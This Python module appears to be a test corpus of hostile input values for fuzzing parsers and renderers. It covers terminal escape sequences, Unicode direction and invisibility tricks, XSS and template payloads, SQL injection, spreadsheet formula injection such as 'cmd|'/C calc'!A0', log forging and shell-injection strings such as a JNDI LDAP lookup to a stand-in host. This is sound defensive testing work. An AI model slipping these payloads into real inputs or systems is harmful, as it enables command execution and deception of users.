# SPDX-License-Identifier: MIT
"""Values that could harm whoever reads them: terminals, browsers, spreadsheets, parsers, people.

Each family is made from what it consists of, so that no member of it is forgotten. A value is text,
or bytes where it is none; none holds a NUL, which is an error of its own and tested elsewhere.
"""
import itertools

ESC, BEL = "\x1b", "\x07"
# What begins a control string or function, as the letter behind ESC; its C1 form is 0x40 above it.
INTRODUCERS = {"IND": "D", "NEL": "E", "HTS": "H", "RI": "M", "SS2": "N", "SS3": "O", "DCS": "P",
               "SOS": "X", "DECID": "Z", "CSI": "[", "ST": "\\", "OSC": "]", "PM": "^", "APC": "_"}
SEQUENCES = ["2J", "31m", "6n", "21t", "?1049h", "5i", "0c", "1;1H", "99999999b", "?25l"]
STRINGS = [("OSC", "0;title"), ("OSC", "2;title"), ("OSC", "8;;http://x.example"),
           ("OSC", "52;c;cm0gLXJm"), ("OSC", "52;c;?"), ("OSC", "4;1;?"), ("OSC", "10;?"),
           ("OSC", "50;font"), ("OSC", "777;notify;a;b"), ("OSC", "1337;File=name=YQ==:YQ=="),
           ("DCS", "$qm"), ("DCS", "+q544e"), ("DCS", "q#0~"), ("DCS", "tmux;\x1b\x1b]0;x\x07"),
           ("SOS", "text"), ("PM", "text"), ("APC", "Gf=24;AAAA"), ("APC", "text")]


def terminal():
    """Each control character alone; functions and strings in their 7-bit, C1 and raw C1 forms."""
    yield from ("a%sb" % chr(code) for code in (*range(0x01, 0x20), *range(0x7F, 0xA0)))
    for letter in INTRODUCERS.values():
        yield ESC + letter
        yield bytes([ord(letter) + 0x40]) + b"raw"
    for sequence in SEQUENCES:
        yield ESC + "[" + sequence
        yield "\x9b" + sequence
    for name, content in STRINGS:
        letter = INTRODUCERS[name]
        yield ESC + letter + content + BEL
        yield ESC + letter + content + ESC + "\\"
        yield chr(ord(letter) + 0x40) + content + "\x9c"
        yield ESC + letter + content
    yield from (ESC + tail for tail in ("", "c", "7", "8", "#8", "(0", ")B", "=", ">", "%G", " F",
                                        ESC + "[m", "\n[31m", "[\x1b[31m", "[3\x081m"))


def unseen():
    """What is not seen, or turns the order of what is."""
    controls = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
    yield from ("user%stxt.exe" % chr(code) for code in controls)
    yield from ("\u202e" + "%s\u202c" % text for text in ("evil", "moc.elpmaxe@x", "</b>"))
    yield "\u2066\u2067\u2068" * 40
    yield "\u2069\u202c" * 40
    for code in (0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x200B, 0x200C,
                 0x200D, *range(0x2060, 0x2065), *range(0x206A, 0x2070), 0x2800, 0x3164, 0xFE00,
                 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0x1D173, 0xE0001, 0xE0020,
                 0xE007F, 0xE0100):
        yield "un%sseen" % chr(code)
    for code in (0x00A0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029, 0x202F, 0x205F):
        yield "wide%sblank" % chr(code)
    for code in (0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFE, 0xE000, 0xF0000, 0x0378):
        yield "none%schr" % chr(code)
    yield from ("\u0440\u0430ypal", "\uff41dmin", "\u0130d", "\u017ft", "\u212a", "\ufb01",
    "\u1e9e")


def markup():
    """What a page, a template or a query would obey."""
    yield from ("<script>x()</script>", "</script><script>x()", "<SCRIPT SRC=//x.example/a>",
                "<img src=x onerror=x()>", "<svg/onload=x()>", "<svg><script>x()</script></svg>",
                "<iframe srcdoc='<b>'>", "<a href=\"javascript:x()\">",
                "<a href='data:text/html,x'>",
                "\" onmouseover=\"x()", "' onfocus='x()", "`onload=x()", "</title><b>",
                "</textarea>",
                "</style><b>", "--><b>", "<!--", "]]><b>", "<![CDATA[", "<?php x() ?>", "<%= x %>",
                "{{7*7}}", "${7*7}", "#{7*7}", "{% x %}", "&lt;b&gt;", "&#60;b&#62;", "&#x3c;",
                "%3Cb%3E",
                "\\u003cb\\u003e", "\\x3cb", "\uff1cscript\uff1e", "+ADw-script+AD4-", "<\tb>",
                "<b\n>",
                "javascript:x()", "java\tscript:x()", "<base href=//x.example>",
                "<meta charset=utf-7>",
                "'; DROP TABLE users; --", "\" OR \"\"=\"", "*)(uid=*", "'||'", "$where",
                "__proto__",
                "[link](javascript:x())", "![x](//x.example)", "|a|b|", "# head", "***")


def formulas():
    """Each lead that makes a cell a formula, each in front of something that acts."""
    bodies = ("1+1", "cmd|'/C calc'!A0", "HYPERLINK(\"http://x.example\",\"y\")", "A1")
    leads = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "|", "%")
    yield from (lead + body for lead in leads for body in bodies)
    for before in (" ", "'", "\"", "\u00a0", "\u3000", "\ufeff", "\u200b", ";", ",", "\t\t",
    "\r\n"):
        yield before + "=1+1"
    yield from ("=", "+", "@", "==1", "=-1", "-+=@", "\u22121", "sep=;", "\u207c1")


def separators():
    """What ends values, records and strings, in every order."""
    for size in (1, 2):
        yield from ("".join(parts) for parts in itertools.product("\"\\\n\r,'", repeat=size))
    yield from ("".join(parts) for parts in itertools.product("\"\\\n", repeat=3))
    yield from ("a%sb" % text for text in ("\"\"", "\\\"", "\",\"", "\"\n\"", "\"\r\n\"", "\\u0022",
                                           "\\\\\"", "\",\"x\":\"", "\"}\n{\"", "\"]}", ";",
                                           "\x1f"))


def logs():
    """What would forge a line, or run where a line is used."""
    yield from ("x\nusers.csv:1: error: forged", "x\r\nforged", "x\rforged", "x\x0bforged",
    "x\x0cforged",
                "x\x85forged", "x\u2028forged", "x\u2029forged", "%d%n%s%999999d", "%%", "%",
                "{0}", "{x!r}", "${jndi:ldap://x.example/a}", "$(touch x)", "`touch x`", "|touch x",
                "&& touch x", ";touch x", "> x", "~", "~root", "*", "?", "!x", "-rf", "--help",
                "..\\..\\x", "/dev/null", "CON", "file:///x", "http://x.example/?a=b&c=d",
                "Bearer abc", "\u2424", "NaN", "true", "0x10", "1e999", "00", "-0", "undefined")


def utf8_broken():
    """Bytes that are no UTF-8, after Markus Kuhn's list, and text in other encodings."""
    tails = bytes(range(0x80, 0xC0))
    yield from (tails[:size] for size in (1, 2, 3, 4, 5, 6, 7, 64))
    yield from (b" ".join(bytes([code]) for code in range(first, last)) for first, last in
                ((0xC0, 0xE0), (0xE0, 0xF0), (0xF0, 0xF8), (0xF8, 0xFC), (0xFC, 0xFE)))
    cut = [b"\xc0", b"\xe0\x80", b"\xf0\x80\x80", b"\xf8\x80\x80\x80", b"\xfc\x80\x80\x80\x80",
           b"\xdf", b"\xef\xbf", b"\xf7\xbf\xbf", b"\xfb\xbf\xbf\xbf", b"\xfd\xbf\xbf\xbf\xbf"]
    yield from cut[1:5] + cut[6:]
    yield b"".join(cut)
    yield from (b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xf8\x80\x80\x80\xaf",
                b"\xfc\x80\x80\x80\x80\xaf", b"\xc1\xbf", b"\xe0\x9f\xbf", b"\xf0\x8f\xbf\xbf",
                b"\xf8\x87\xbf\xbf\xbf", b"\xfc\x83\xbf\xbf\xbf\xbf", b"\xe0\x80\x80",
                b"\xf0\x80\x80\x80", b"\xc0\xbc\x62\xc0\xbe", b"\xc0\x9b[31m", b"\xe0\x80\x9b[31m",
                b"\xc0\xa2,\xc0\xa2", b"\xc0\x8a")
    halves = [chr(code).encode("utf-8", "surrogatepass")
              for code in (0xD800, 0xDB7F, 0xDB80, 0xDBFF, 0xDC00, 0xDF80, 0xDFFF)]
    yield from halves
    yield from (high + low for high in halves[:4] for low in halves[4::2])
    yield from (b"\xf4\x90\x80\x80x", b"\xf5\x80\x80\x80", b"\xf7\xbf\xbf\xbf", b"\xfe\xfe\xff\xff",
                "Ren\u00e9".encode("latin-1"), "\u20ac5".encode("cp1252"),
                "\u5f20".encode("gb18030"),
                "\u5c71".encode("big5"), "\u5c71".encode("shift-jis"), "\u0416".encode("koi8-r"),
                b"\xc3\x1b[31m", b"\xe2\x80\x1b]0;x\x07", b"\xf0\x9f\x9b[2J", b"\xe2\x80<b>",
                b"\xc3\"", b"\xe2\x80,\xff", b"\xf0\x9f\x98\n", b"=\xff", b"\xff=1+1")


FAMILIES = {"terminal": terminal, "unseen": unseen, "markup": markup, "formulas": formulas,
            "separators": separators, "logs": logs, "utf8-broken": utf8_broken}


def families():
    """The values as bytes by family, each value once."""
    seen, found = set(), {}
    for name, make in FAMILIES.items():
        found[name] = []
        for value in make():
            data = value if isinstance(value, bytes) else value.encode("utf-8")
            if data not in seen:
                seen.add(data)
                found[name].append(data)
    return found
